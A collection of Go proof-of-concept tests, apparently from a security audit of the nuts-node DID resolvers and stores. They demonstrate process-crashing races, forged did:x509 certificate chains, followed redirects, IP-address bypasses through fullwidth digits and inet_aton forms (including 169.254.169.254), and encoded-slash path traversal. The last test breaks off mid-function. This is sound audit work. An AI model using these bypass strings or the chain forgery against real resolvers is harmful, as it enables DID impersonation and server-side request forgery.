// place in /repo/vdr/didnuts/didstore and run  go test -run TestDemoDeterminism ./vdr/didnuts/didstore/

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/require"
)

func TestDemoDeterminism_mergeControllers(t *testing.T) {
	id := did.MustParseDID("did:nuts:subject")
	a := did.Document{ID: id, Controller: []did.DID{did.MustParseDID("did:nuts:c1"), did.MustParseDID("did:nuts:c2")}}
	b := did.Document{ID: id, Controller: []did.DID{did.MustParseDID("did:nuts:c3")}}
	seen := map[string]bool{}
	for i := 0; i < 200; i++ {
		data, _ := json.Marshal(mergeDocuments(a, b))
		seen[hash.SHA256Sum(data).String()] = true
	}
	require.Len(t, seen, 1, "merged (conflicted) document hash must be deterministic")
}

func TestDemoDeterminism_sourceTransactions(t *testing.T) {
	// three parallel updates on top of one create: when the third arrives, two source transactions are unconsumed.
	// With fixed refs the resulting SourceTransactions list must be identical in every run.
	refs := []hash.SHA256Hash{hash.SHA256Sum([]byte("r0")), hash.SHA256Sum([]byte("r1")), hash.SHA256Sum([]byte("r2")), hash.SHA256Sum([]byte("r3"))}
	seen := map[string]bool{}
	for i := 0; i < 60; i++ {
		store := NewTestStore(t)
		createDoc := did.Document{ID: testDID, Controller: []did.DID{testDID}}
		create := newTestTransaction(createDoc)
		create.Ref = refs[0]
		require.NoError(t, store.Add(createDoc, create))
		for j := 0; j < 3; j++ {
			doc := did.Document{ID: testDID, Controller: []did.DID{testDID, did.MustParseDID(fmt.Sprintf("did:nuts:c%d", j))}}
			tx := newTestTransaction(doc, create.Ref)
			tx.Ref = refs[j+1]
			tx.Clock = 1
			tx.SigningTime = create.SigningTime.Add(time.Duration(j+1) * time.Second)
			require.NoError(t, store.Add(doc, tx))
		}
		_, meta, err := store.Resolve(testDID, nil)
		require.NoError(t, err)
		seen[fmt.Sprint(meta.SourceTransactions)] = true
	}
	require.Len(t, seen, 1, "SourceTransactions order must not depend on map iteration order")
}
