package didstore

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemo_UnrepresentableSigningTimeCorruptsHistory shows that an update whose signing time cannot be marshalled to
// JSON (year > 9999; the DAG parser accepts any integer 'sigt' and the VDR ambassador only checks for the zero time)
// is "accepted" by store.Add (nil error), but silently wipes the DID's event list and writes an empty metadata record,
// because the json.Marshal errors in writeEventList/applyEvent are ignored.
// The resulting state depends on the order in which the same 3 transactions arrive.
func TestDemo_UnrepresentableSigningTimeCorruptsHistory(t *testing.T) {
	t0 := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	docA := did.Document{ID: testDID, Controller: []did.DID{testDID}}
	docB := did.Document{ID: testDID, Controller: []did.DID{testDID}, Service: []did.Service{testServiceA}}
	docC := did.Document{ID: testDID, Controller: []did.DID{testDID}, Service: []did.Service{testServiceB}}

	txA := newTestTransaction(docA)
	txA.Clock = 0
	txA.SigningTime = t0
	txB := newTestTransaction(docB, txA.Ref)
	txB.Clock = 1
	// "sigt": 253402300800 -> 10000-01-01T00:00:00Z, which time.Time.MarshalJSON refuses
	txB.SigningTime = time.Unix(253402300800, 0).UTC()
	txC := newTestTransaction(docC, txB.Ref)
	txC.Clock = 2
	txC.SigningTime = t0.Add(2 * time.Second)

	type ev struct {
		doc did.Document
		tx  Transaction
	}
	events := map[string]ev{"A": {docA, txA}, "B": {docB, txB}, "C": {docC, txC}}
	orders := [][]string{
		{"A", "B", "C"},
		{"A", "C", "B"},
		{"B", "A", "C"},
		{"B", "C", "A"},
		{"C", "A", "B"},
		{"C", "B", "A"},
	}

	dump := func(store *store, accepted map[string]bool) string {
		var sb strings.Builder
		sb.WriteString(fmt.Sprintf("accepted: A=%v B=%v C=%v\n", accepted["A"], accepted["B"], accepted["C"]))
		docCount, err := store.DocumentCount()
		require.NoError(t, err)
		conflictedCount, err := store.ConflictedCount()
		require.NoError(t, err)
		sb.WriteString(fmt.Sprintf("documentCount=%d conflictedCount=%d\n", docCount, conflictedCount))
		resolve := func(name string, md *resolver.ResolveMetadata) {
			doc, meta, err := store.Resolve(testDID, md)
			if err != nil {
				sb.WriteString(fmt.Sprintf("%s: error: %v\n", name, err))
				return
			}
			docJSON, _ := json.Marshal(doc)
			metaJSON, _ := json.Marshal(meta)
			sb.WriteString(fmt.Sprintf("%s: %s %s\n", name, docJSON, metaJSON))
		}
		resolve("latest", nil)
		for _, name := range []string{"A", "B", "C"} {
			ref := events[name].tx.Ref
			resolve("by source TX "+name, &resolver.ResolveMetadata{SourceTransaction: &ref})
			h := events[name].tx.PayloadHash
			resolve("by hash "+name, &resolver.ResolveMetadata{Hash: &h})
		}
		for _, at := range []time.Time{t0, t0.Add(time.Second), t0.Add(3 * time.Second)} {
			at := at
			resolve("at "+at.String(), &resolver.ResolveMetadata{ResolveTime: &at})
		}
		return sb.String()
	}

	var referenceOrder []string
	var reference string
	for _, order := range orders {
		store := NewTestStore(t)
		accepted := map[string]bool{}
		for _, name := range order {
			// a refused transaction (error) is fine, as long as it is refused for every arrival order
			accepted[name] = store.Add(events[name].doc, events[name].tx) == nil
		}
		state := dump(store, accepted)

		// whatever the order: there is only 1 DID
		docCount, _ := store.DocumentCount()
		assert.Equal(t, uint(1), docCount, "document count for arrival order %v", order)
		// whatever the order: the DID must not end up with a broken (unreadable) history
		_, _, err := store.Resolve(testDID, nil)
		assert.NoError(t, err, "resolving latest for arrival order %v", order)

		if reference == "" {
			reference, referenceOrder = state, order
			continue
		}
		if reference != state {
			refLines, lines := strings.Split(reference, "\n"), strings.Split(state, "\n")
			diff := ""
			for i := range refLines {
				if refLines[i] != lines[i] {
					diff += fmt.Sprintf("  %v: %s\n  %v: %s\n", referenceOrder, refLines[i], order, lines[i])
				}
			}
			t.Errorf("arrival order %v yields another history than arrival order %v:\n%s", order, referenceOrder, diff)
		}
	}
}
