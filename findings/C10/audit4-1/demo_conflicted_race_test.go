package didstore

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"sync"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
)

// TestDemoConflictedDuringAdd: parallel updates of did:nuts documents arrive from the network (store.Add) while the
// conflicted documents are listed (store.Conflicted, used by the diagnostics and by GET /internal/vdr/v1/did/conflicted).
// For every schedule the list must simply contain the conflicted documents known at that moment. On the unchanged tree
// the two goroutines use the conflictedDocuments map without synchronisation and the Go runtime aborts the whole
// process ("fatal error: concurrent map iteration and map write"), which cannot be recovered. The scenario therefore
// runs in a child process, the parent asserts that the child survived.
func TestDemoConflictedDuringAdd(t *testing.T) {
	if os.Getenv("DEMO_CONFLICTED_CHILD") == "1" {
		demoConflictedDuringAddScenario(t)
		return
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestDemoConflictedDuringAdd$", "-test.count=1", "-test.timeout=120s")
	cmd.Env = append(os.Environ(), "DEMO_CONFLICTED_CHILD=1")
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	err := cmd.Run()
	if err != nil {
		tail := out.String()
		if idx := bytes.Index(out.Bytes(), []byte("fatal error")); idx >= 0 {
			tail = tail[idx:]
		}
		if len(tail) > 1500 {
			tail = tail[:1500]
		}
		t.Fatalf("listing the conflicted documents while conflicting updates arrive killed the process (%v):\n%s", err, tail)
	}
}

func demoConflictedDuringAddScenario(t *testing.T) {
	store := NewTestStore(t)
	const dids = 300

	var wg sync.WaitGroup
	stop := make(chan struct{})
	wg.Add(1)
	go func() {
		// the reader: diagnostics / API
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			seen := 0
			_ = store.Conflicted(func(doc did.Document, metadata resolver.DocumentMetadata) error {
				seen++
				return nil
			})
		}
	}()

	// the writer: the network delivers, per DID, a creation, two parallel updates (conflict) and an update that resolves it
	deadline := time.Now().Add(60 * time.Second)
	for i := 0; i < dids && time.Now().Before(deadline); i++ {
		id := did.MustParseDID(fmt.Sprintf("did:nuts:%d", i))
		create := did.Document{ID: id, Controller: []did.DID{id}}
		docA := did.Document{ID: id, Controller: []did.DID{id}, Service: []did.Service{testServiceA}}
		docB := did.Document{ID: id, Controller: []did.DID{id}, Service: []did.Service{testServiceB}}
		txCreate := newTestTransaction(create)
		txA := newTestTransaction(docA, txCreate.Ref)
		txA.Clock = 1
		txB := newTestTransaction(docB, txCreate.Ref)
		txB.Clock = 1
		require.NoError(t, store.Add(create, txCreate))
		require.NoError(t, store.Add(docA, txA))
		require.NoError(t, store.Add(docB, txB)) // conflicted: written to the cache
		if i%2 == 0 {
			txC := newTestTransaction(docB, txA.Ref, txB.Ref)
			txC.Clock = 2
			require.NoError(t, store.Add(docB, txC)) // resolved: deleted from the cache
		}
	}
	close(stop)
	wg.Wait()

	count, err := store.ConflictedCount()
	require.NoError(t, err)
	listed := 0
	require.NoError(t, store.Conflicted(func(doc did.Document, metadata resolver.DocumentMetadata) error {
		listed++
		return nil
	}))
	require.Equal(t, int(count), listed)
}
