package didx509

import (
	"encoding/pem"
	"fmt"
	"testing"

	"github.com/lestrrat-go/jwx/v2/cert"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/pki"
	resolver2 "github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// A did:x509 identifier names a CA certificate (by fingerprint) and policies the signing certificate must satisfy. The
// resolver looked the CA certificate up in the x5c header, picked the signing certificate named by x5t / x5t#S256 and
// checked the policies — but never that the signing certificate was ISSUED under that CA. Anyone can put the (public) CA
// certificate next to a home-made certificate with the victim's SAN in x5c and so resolve the victim's did:x509 to a key
// of their own: credentials and presentations "signed by" that DID then verify.
func TestDemoC18_DIDX509SigningCertificateMustChainToTheCAInTheDID(t *testing.T) {
	const victimOtherName = "URA-OF-THE-VICTIM"
	// the genuine PKI: its root certificate is public knowledge
	_, _, genuineRoot, _, _, err := BuildCertChain([]string{victimOtherName})
	require.NoError(t, err)
	// the attacker's own, unrelated PKI, issuing a certificate with the victim's identifier
	_, _, _, _, attackerSigningCert, err := BuildCertChain([]string{victimOtherName})
	require.NoError(t, err)

	forgedChain := &cert.Chain{}
	require.NoError(t, forgedChain.Add(pemOf(genuineRoot.Raw)))
	require.NoError(t, forgedChain.Add(pemOf(attackerSigningCert.Raw)))
	metadata := resolver2.ResolveMetadata{JwtProtectedHeaders: map[string]interface{}{
		X509CertChainHeader:          forgedChain,
		X509CertThumbprintS256Header: sha256Sum(attackerSigningCert.Raw),
	}}
	victimDID := did.MustParseDID(fmt.Sprintf("did:x509:0:sha256:%s::san:otherName:%s", sha256Sum(genuineRoot.Raw), victimOtherName))

	ctrl := gomock.NewController(t)
	validator := pki.NewMockValidator(ctrl)
	validator.EXPECT().ValidateStrict(gomock.Any()).AnyTimes() // no CRL objections
	document, _, err := NewResolver(validator).Resolve(victimDID, &metadata)

	require.Error(t, err, "the victim's did:x509 resolved to the attacker's certificate, which was not issued under the CA named in the DID")
	require.Nil(t, document)
}

func pemOf(der []byte) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}
