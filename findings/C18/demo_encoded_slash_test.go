package didweb

import (
	"crypto/tls"
	"crypto/x509"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/http/client"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// DIDToURL maps did:web:host:x:y%2Fz to https://host/x/y%2Fz (see TestDIDToURL "encoded path"): one path segment "y/z".
// Resolve() however appends "/did.json" to URL.Path only, which makes net/url discard URL.RawPath: the document is fetched
// from https://host/x/y/z/did.json, the location of a different DID (did:web:host:x:y:z).
// The same happens to %2E%2E%2F: did:web:host:users:alice%2F..%2Fbob is fetched from /users/alice/../bob/did.json
func TestDemo_ResolveFetchesFromOtherPathThanTheDIDEncodes(t *testing.T) {
	oldTransport := client.DefaultCachingTransport
	defer func() { client.DefaultCachingTransport = oldTransport }()

	var id did.DID
	var requested []string
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requested = append(requested, r.RequestURI)
		w.Header().Set("Content-Type", "application/did+json")
		_, _ = w.Write([]byte(strings.ReplaceAll(didDocTemplate, "<did>", id.String())))
	}))
	defer server.Close()
	pool := x509.NewCertPool()
	pool.AddCert(server.Certificate())
	transport := client.SafeHttpTransport.Clone()
	transport.TLSClientConfig = &tls.Config{RootCAs: pool, ServerName: "example.com"}
	client.DefaultCachingTransport = transport
	resolver := NewResolver()
	host := strings.ReplaceAll(strings.TrimPrefix(server.URL, "https://"), "127.0.0.1", "localhost")
	hostID := strings.ReplaceAll(host, ":", "%3A")

	for _, path := range []string{"x:y%2Fz", "users:alice%2F..%2Fbob", "alice%2Band%2Bbob:path", "a%20b"} {
		t.Run(path, func(t *testing.T) {
			requested = nil
			id = did.MustParseDID("did:web:" + hostID + ":" + path)
			expectedURL, err := DIDToURL(id)
			require.NoError(t, err)

			_, _, _ = resolver.Resolve(id, nil)

			require.Len(t, requested, 1)
			// the path the identifier encodes, according to DIDToURL()
			assert.Equal(t, expectedURL.EscapedPath()+"/did.json", requested[0])
			if !strings.Contains(path, "%2F") {
				return // sanity check, passes on the unchanged tree
			}
			// which is not the path of this other DID
			otherURL, err := DIDToURL(did.MustParseDID("did:web:" + hostID + ":" + strings.ReplaceAll(path, "%2F", ":")))
			require.NoError(t, err)
			assert.NotEqual(t, otherURL.EscapedPath()+"/did.json", requested[0])
		})
	}
}
