package didjwk

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// did:jwk is "did:jwk:" + base64url(JWK) (https://github.com/quartzjer/did-jwk/blob/main/spec.md), and the characters '+' and '/'
// of the standard base64 alphabet are not even allowed in a DID. The resolver decodes with base64.RawStdEncoding however,
// so every did:jwk whose encoding contains '-' or '_' can't be resolved.
func TestDemo_ResolveBase64URL(t *testing.T) {
	// A public P-256 JWK (RFC 7517 appendix A.1) with a key ID; the '?' and '~' end up in the last sextet of a base64 quantum
	for _, kid := range []string{"key?", "key~"} {
		jwkJSON := `{"kid":"` + kid + `","kty":"EC","crv":"P-256","x":"MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4","y":"4Etl6SRW2YiLUrN5vfvVHuhp7x8PxltmWWlbbM4IFyM"}`
		encoded := base64.RawURLEncoding.EncodeToString([]byte(jwkJSON))
		require.True(t, strings.ContainsAny(encoded, "-_"), encoded)
		id, err := did.ParseDID("did:jwk:" + encoded)
		require.NoError(t, err, "a valid DID")

		doc, _, err := NewResolver().Resolve(*id, nil)

		require.NoError(t, err, "did:jwk documents are a pure function of the identifier")
		assert.Equal(t, *id, doc.ID)
		assert.Len(t, doc.VerificationMethod, 1)
	}
}
