package didstore

import (
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// A deactivated DID must not resolve — unless the caller allows deactivated documents — also when the caller asks for
// the state at a point in time AFTER the deactivation. Before the fix the store skipped the deactivated version and
// returned the last ACTIVE version for such a time.
func TestDemoC18_DeactivatedDIDAtLaterResolveTime(t *testing.T) {
	store := NewTestStore(t)
	create := did.Document{ID: testDID, Controller: []did.DID{testDID}}
	txCreate := newTestTransaction(create)
	txCreate.SigningTime = time.Now().Add(-10 * time.Second)
	deactivate := did.Document{ID: testDID}
	txDeactivate := newTestTransaction(deactivate, txCreate.Ref)
	txDeactivate.SigningTime = time.Now().Add(-5 * time.Second)
	add(t, store, create, txCreate)
	add(t, store, deactivate, txDeactivate)

	afterDeactivation := time.Now()
	t.Run("at a time after the deactivation: not resolvable", func(t *testing.T) {
		doc, _, err := store.Resolve(testDID, &resolver.ResolveMetadata{ResolveTime: &afterDeactivation})
		assert.ErrorIs(t, err, resolver.ErrDeactivated)
		assert.Nil(t, doc)
	})
	t.Run("at a time after the deactivation, deactivated allowed: the deactivated version", func(t *testing.T) {
		_, md, err := store.Resolve(testDID, &resolver.ResolveMetadata{ResolveTime: &afterDeactivation, AllowDeactivated: true})
		require.NoError(t, err)
		assert.True(t, md.Deactivated)
	})
	t.Run("at a time before the deactivation: the then-active version (unchanged behaviour)", func(t *testing.T) {
		before := txDeactivate.SigningTime.Add(-2 * time.Second)
		doc, md, err := store.Resolve(testDID, &resolver.ResolveMetadata{ResolveTime: &before})
		require.NoError(t, err)
		assert.False(t, md.Deactivated)
		assert.Len(t, doc.Controller, 1)
	})
}
