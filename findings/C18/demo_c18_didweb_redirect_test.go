package didweb

import (
	"crypto/tls"
	"crypto/x509"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/http/client"
	"github.com/stretchr/testify/require"
)

// The did:web resolver must fetch the document "only over HTTPS from the host and path that the identifier encodes -
// never an IP address, user-info, or another host". A redirect response of the did:web host is followed blindly:
// to another host, to an IP address, and even (in strict mode) to plain HTTP.
//
// The resolver under test is the production one (NewResolver(), http/client.StrictHTTPClient); only the transport is
// swapped for one that trusts the certificate of the httptest TLS servers (which is issued to example.com).
func TestDemo_ResolveFollowsRedirects(t *testing.T) {
	client.StrictMode = true
	oldTransport := client.DefaultCachingTransport
	defer func() {
		client.StrictMode = false
		client.DefaultCachingTransport = oldTransport
	}()

	run := func(t *testing.T, newOther func(handler http.Handler) *httptest.Server, otherPrefix string) {
		var id did.DID
		var otherHits atomic.Int32
		// "internal"/other server, addressed by IP address
		other := newOther(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			otherHits.Add(1)
			w.Header().Set("Content-Type", "application/did+json")
			_, _ = w.Write([]byte(strings.ReplaceAll(didDocTemplate, "<did>", id.String())))
		}))
		defer other.Close()
		require.True(t, strings.HasPrefix(other.URL, otherPrefix))

		// the host the did:web DID points to
		origin := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, other.URL+"/some/other/path", http.StatusFound)
		}))
		defer origin.Close()

		pool := x509.NewCertPool()
		pool.AddCert(origin.Certificate())
		transport := client.SafeHttpTransport.Clone()
		transport.TLSClientConfig = &tls.Config{RootCAs: pool, ServerName: "example.com"}
		client.DefaultCachingTransport = transport
		resolver := NewResolver()

		host := strings.ReplaceAll(strings.TrimPrefix(origin.URL, "https://"), "127.0.0.1", "localhost")
		id = did.MustParseDID("did:web:" + strings.ReplaceAll(host, ":", "%3A"))

		doc, _, err := resolver.Resolve(id, nil)

		if otherHits.Load() != 0 {
			t.Errorf("resolving %s made a request to %s", id, other.URL)
		}
		if err == nil {
			t.Errorf("resolved %s with a document that did not come from https://%s/.well-known/did.json but from %s (id: %s)", id, host, other.URL, doc.ID)
		}
	}

	t.Run("redirect to plain HTTP on an IP address (strict mode)", func(t *testing.T) {
		run(t, httptest.NewServer, "http://127.0.0.1:")
	})
	t.Run("redirect to another HTTPS host, an IP address", func(t *testing.T) {
		run(t, httptest.NewTLSServer, "https://127.0.0.1:")
	})
}
