package didweb

import (
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// fullwidth percent-encodes the digits of s as the Unicode FULLWIDTH DIGITs (U+FF10..U+FF19),
// which IDNA/UTS-46 (applied by net/http to every non-ASCII host name) maps back to the ASCII digits.
func fullwidth(s string) string {
	var sb strings.Builder
	for _, c := range s {
		if c >= '0' && c <= '9' {
			sb.WriteString(url.PathEscape(string(rune(0xFF10 + (c - '0')))))
		} else {
			sb.WriteRune(c)
		}
	}
	return sb.String()
}

// The property: did:web documents are fetched "never [from] an IP address".
func TestDemo_DIDToURL_IPAddressInFullwidthDigits(t *testing.T) {
	// sanity: the plain spelling is refused
	_, err := DIDToURL(did.MustParseDID("did:web:127.0.0.1"))
	require.EqualError(t, err, "invalid did:web: ID must be a domain name, not IP address")

	for _, input := range []string{
		"did:web:" + fullwidth("127") + ".0.0.1",                 // １２７.0.0.1
		"did:web:" + fullwidth("127.0.0.1"),                      // １２７.０.０.１
		"did:web:" + fullwidth("169.254.169.254") + "%3A443:api", // with port and path
		"did:web:127%E3%80%820%E3%80%820%E3%80%821",              // 127。0。0。1 (IDEOGRAPHIC FULL STOP is a label separator in IDNA)
	} {
		id, err := did.ParseDID(input)
		require.NoError(t, err, input)
		u, err := DIDToURL(*id)
		if !assert.Error(t, err, "%s: must be refused, it denotes an IP address", input) {
			t.Logf("%s -> %s", input, u)
		}
	}
}

// End-to-end: the real resolver connects to the IP address and accepts the document it serves.
func TestDemo_Resolve_FetchesFromIPAddress(t *testing.T) {
	var hits atomic.Int32
	var theDID string
	// httptest's own certificate is (like that of many internal services) valid for the IP address 127.0.0.1
	tlsServer := httptest.NewTLSServer(http.HandlerFunc(func(writer http.ResponseWriter, request *http.Request) {
		hits.Add(1)
		writer.Header().Add("Content-Type", "application/did+json")
		_, _ = writer.Write([]byte(strings.ReplaceAll(didDocTemplate, "<did>", theDID)))
	}))
	defer tlsServer.Close()
	host, port, err := net.SplitHostPort(strings.TrimPrefix(tlsServer.URL, "https://"))
	require.NoError(t, err)
	require.NotNil(t, net.ParseIP(host), "test server listens on an IP address")

	theDID = "did:web:" + fullwidth(host) + "%3A" + port
	id, err := did.ParseDID(theDID)
	require.NoError(t, err)

	// unmodified http.Client of the standard library (only trusting the test server's certificate)
	doc, _, err := Resolver{HttpClient: tlsServer.Client()}.Resolve(*id, nil)

	assert.Error(t, err, "a did:web DID whose host is an IP address must not resolve")
	assert.Nil(t, doc)
	assert.Equal(t, int32(0), hits.Load(), "no request may be sent to an IP address (was sent to %s)", tlsServer.URL)
}

// The system resolver (getaddrinfo: cgo builds when the Go resolver can't be used, GODEBUG=netdns=cgo, macOS, Windows)
// accepts the inet_aton notations of an IPv4 address, which net.ParseIP does not recognise.
func TestDemo_DIDToURL_IPv4InetAtonNotation(t *testing.T) {
	for _, input := range []string{
		"did:web:127.1",           // 127.0.0.1
		"did:web:2130706433",      // 127.0.0.1
		"did:web:0x7f000001",      // 127.0.0.1
		"did:web:0x7f.0.0.1",      // 127.0.0.1
		"did:web:0177.0.0.1",      // 127.0.0.1 (octal)
		"did:web:10.1%3A8443:api", // 10.0.0.1:8443
	} {
		id, err := did.ParseDID(input)
		require.NoError(t, err, input)
		u, err := DIDToURL(*id)
		if !assert.Error(t, err, "%s: must be refused, it denotes an IP address", input) {
			t.Logf("%s -> %s", input, u)
		}
	}
}

// Domain names (also those with digits, underscores or non-ASCII characters) are still accepted.
func TestDemo_DIDToURL_DomainNamesStillAccepted(t *testing.T) {
	for _, input := range []string{
		"did:web:example.com",
		"did:web:localhost%3A3000:alice",
		"did:web:1password.com",
		"did:web:123.example.com",
		"did:web:example.com.",
		"did:web:0xdeadbeef.example",
		"did:web:my_host:iam:1",
		"did:web:ex%C3%A9mple.com",
		"did:web:xn--exmple-cua.com",
		"did:web:node-1.internal%3A443",
	} {
		id, err := did.ParseDID(input)
		require.NoError(t, err, input)
		_, err = DIDToURL(*id)
		assert.NoError(t, err, input)
	}
}
