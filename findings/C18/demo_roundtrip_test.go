package didweb

import (
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// "Converting between did:web identifiers and URLs round-trips for identifiers built from a domain name, optional port
// and path segments free of query, fragment and doubly-encoded characters".
// URLToDID() only looks at the escaped path (url.URL.RawPath) when net/url happens to keep it, which it only does if the
// escaping in the URL is not the canonical one (e.g. %2F). For canonically escaped characters (space, non-ASCII, '"', ...)
// it takes the unescaped path and puts the raw characters into the DID, which yields an invalid DID.
func TestDemo_DIDToURLToDIDRoundTrip(t *testing.T) {
	for _, input := range []string{
		"did:web:example.com:x:y%2Fz",         // passes: existing test case
		"did:web:example.com%3A3000:a%2Bb",    // passes: existing test case
		"did:web:example.com:alice%20and%20bob", // space
		"did:web:example.com:caf%C3%A9",       // non-ASCII (UTF-8 'é')
		"did:web:example.com:users:%22bob%22",   // double quote
	} {
		t.Run(input, func(t *testing.T) {
			id := did.MustParseDID(input)
			asURL, err := DIDToURL(id)
			require.NoError(t, err)
			t.Log(asURL.String())

			actual, err := URLToDID(*asURL)

			require.NoError(t, err)
			assert.Equal(t, input, actual.String())
		})
	}
}
