package didx509

import (
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const demoX509DID = "did:x509:0:sha256:WE4P5dd8DnLHSkyHaIjhp4udlkF9LqoKwCvu9gl38jk::san:dns:example.com"

// resolver.DIDResolver documents that the resolve metadata is optional ("If metadata is not provided the latest version is returned"),
// and about 30 callers pass nil. The did:x509 resolver must then return an error (it can't resolve without certificate chain), not crash.
func TestDemo_Resolve_NilMetadata(t *testing.T) {
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("did:x509 Resolve(id, nil) panicked: %v", r)
		}
	}()

	doc, md, err := NewResolver(nil).Resolve(did.MustParseDID(demoX509DID), nil)

	require.Error(t, err)
	assert.Nil(t, doc)
	assert.Nil(t, md)
}

// The same, the way it is reached from the network: the key resolver is called with the (attacker-chosen) kid of a JWT and nil metadata,
// e.g. for a signed authorization request (auth/api/iam/jar.go), an OpenID4VCI proof (vcr/issuer/openid.go) or a token introspection/JWT
// of a remote party (auth/client/iam/client.go). The DID method router is the one vdr.Module configures.
func TestDemo_ResolveKeyByID_NilMetadata(t *testing.T) {
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("ResolveKeyByID(kid, nil, ...) with a did:x509 kid panicked: %v", r)
		}
	}()
	router := &resolver.DIDResolverRouter{}
	router.Register(MethodName, NewResolver(nil))
	keyResolver := resolver.DIDKeyResolver{Resolver: router}

	key, err := keyResolver.ResolveKeyByID(demoX509DID+"#0", nil, resolver.AssertionMethod)

	require.Error(t, err)
	assert.Nil(t, key)
}
