package v2

import (
	"context"
	"net/url"
	"testing"

	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"go.uber.org/mock/gomock"
)

// GET /iam/{id}/did.json is a public, unauthenticated endpoint. It converts the requested URL to a did:web DID with
// didweb.URLToDID(), which puts raw (unescaped) characters of the path into the DID and fails; the handler ignores the
// error and dereferences the nil DID: a request for /iam/a%20b/did.json panics instead of answering 404.
func TestDemo_GetTenantWebDID_PathWithSpace(t *testing.T) {
	baseURL, _ := url.Parse("https://example.com")
	test := newMockContext(t)
	test.vdr.EXPECT().PublicURL().Return(baseURL)
	test.vdr.EXPECT().ResolveManaged(gomock.Any()).Return(nil, resolver.ErrNotFound).AnyTimes()

	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("panic: %v", r)
		}
	}()
	// the router hands the unescaped path parameter to the handler
	response, err := test.client.GetTenantWebDID(context.Background(), GetTenantWebDIDRequestObject{Id: "a b"})

	assert.NoError(t, err)
	assert.IsType(t, GetTenantWebDID404Response{}, response)
}
