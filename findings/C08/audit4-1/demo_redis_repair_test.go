package dag

import (
	"context"
	"sync"
	"testing"

	"github.com/alicebob/miniredis/v2"
	"github.com/nuts-foundation/go-stoabs/redis7"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/redis/go-redis/v9"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestDemoRepairNotSerializedWithAddOnRedis: xorTreeRepair.checkPage says it "acquires the global lock", but it calls
// db.Write without stoabs.WithWriteLock(). On a Redis store (storage.redis, used for the DAG when configured) a write
// transaction without that option takes no lock at all, so checkPage runs concurrently with state.Add.
func TestDemoRepairNotSerializedWithAddOnRedis(t *testing.T) {
	ctx := context.Background()
	redisServer := miniredis.RunT(t)
	db, err := redis7.CreateRedisStore("demo", &redis.Options{Addr: redisServer.Addr()})
	require.NoError(t, err)
	defer db.Close(ctx)
	st, err := NewState(db, NewPrevTransactionsVerifier())
	require.NoError(t, err)
	s := st.(*state)
	require.NoError(t, s.Configure(core.ServerConfig{}))

	// the network layer saw a different XOR at its peers twice: the repair procedure is active
	s.IncorrectStateDetected()
	s.IncorrectStateDetected()
	stop := make(chan struct{})
	wg := sync.WaitGroup{}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
				s.xorTreeRepair.checkPage()
			}
		}
	}()

	prev, _, _ := CreateTestTransaction(0)
	require.NoError(t, s.Add(ctx, prev, nil))
	expected := prev.Ref()
	for i := uint32(1); i < 150; i++ {
		next, _, _ := CreateTestTransaction(i, prev)
		require.NoError(t, s.Add(ctx, next, nil))
		expected = expected.Xor(next.Ref())
		prev = next
	}
	close(stop)
	wg.Wait()

	// quiescent
	xor, clock := s.XOR(MaxLamportClock)
	assert.Equal(t, uint32(149), clock)
	assert.Equal(t, expected, xor, "in-memory XOR differs from the XOR of the stored transactions")
	// and after a restart
	st2, err := NewState(db, NewPrevTransactionsVerifier())
	require.NoError(t, err)
	require.NoError(t, st2.Configure(core.ServerConfig{}))
	xor, _ = st2.XOR(MaxLamportClock)
